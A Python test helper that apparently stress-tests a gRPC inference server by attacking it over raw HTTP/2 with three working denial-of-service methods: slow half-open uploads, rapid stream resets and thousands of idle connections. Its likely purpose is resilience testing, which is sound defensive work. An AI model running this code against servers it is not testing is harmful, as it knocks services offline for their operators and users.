"""A process that keeps a server busy with nothing, until it is ended: one kind per argument."""

import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from threading import Thread

from tests.hostile.sockets import GREETING, SETTINGS, frame

_SERVICE = b"/inference.GRPCInferenceService/"
_CONNECTIONS = 2000
_HALF_OPEN = 100


def _literal(index: int, text: bytes) -> bytes:
    """Write a header whose name has a number in HTTP/2's table."""
    return bytes([index]) + bytes([len(text)]) + text


def _named(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(stream: int, method: bytes) -> bytes:
    """Begin a call of gRPC."""
    block = b"\x83\x86" + _literal(4, _SERVICE + method) + _literal(1, b"x")
    block += _named(b"content-type", b"application/grpc")
    block += _named(b"te", b"trailers")  # codespell:ignore te
    return frame(1, 4, stream, block)


def _connected(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=5)
    # The server's own settings are acknowledged: it hangs up on who does not, after 10 s.
    connection.sendall(GREETING + SETTINGS + frame(4, 1, 0, b""))
    return connection


def _is_sent(line: socket.socket, payload: bytes) -> bool:
    try:
        line.sendall(payload)
    except OSError:
        return False
    return True


def half_open(address: str) -> None:
    """Begin uploads on a hundred connections, and add a byte of each now and then."""
    lines: list[socket.socket] = []
    while True:
        with suppress(OSError):
            while len(lines) < _HALF_OPEN:
                line = _connected(address)
                line.sendall(headers(1, b"ModelInfer"))
                # A message of a megabyte is announced; its first bytes come.
                line.sendall(frame(0, 0, 1, b"\0" + struct.pack(">I", 1 << 20) + b"\x0a"))
                lines.append(line)
            for line in tuple(lines):
                if not _is_sent(line, frame(0, 0, 1, b"x")):
                    line.close()
                    lines.remove(line)
        time.sleep(0.5)


def resets(address: str) -> None:
    """Begin calls and end them at once, a thousand a second."""
    while True:
        with suppress(OSError), _connected(address) as line:
            for number in range(1, 20_000, 2):
                line.sendall(
                    headers(number, b"ModelReady") + frame(3, 0, number, struct.pack(">I", 8))
                )
                time.sleep(0.001)
        time.sleep(0.05)


def idle(address: str) -> None:
    """Hold two thousand connections that say nothing."""
    lines: list[socket.socket] = []
    while True:
        while len(lines) < _CONNECTIONS:
            with suppress(OSError):
                lines.append(_connected(address))
            time.sleep(0.05 if len(lines) % 100 == 0 else 0.0)
        time.sleep(0.5)


KINDS: dict[str, Callable[[str], None]] = {"half_open": half_open, "resets": resets, "idle": idle}


def main(address: str, *kinds: str) -> None:
    """Attack in these ways at once."""
    os.nice(15)  # an attacker's own work is another machine's
    threads = [Thread(target=KINDS[kind], args=(address,), daemon=True) for kind in kinds]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)  # noqa: T201
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
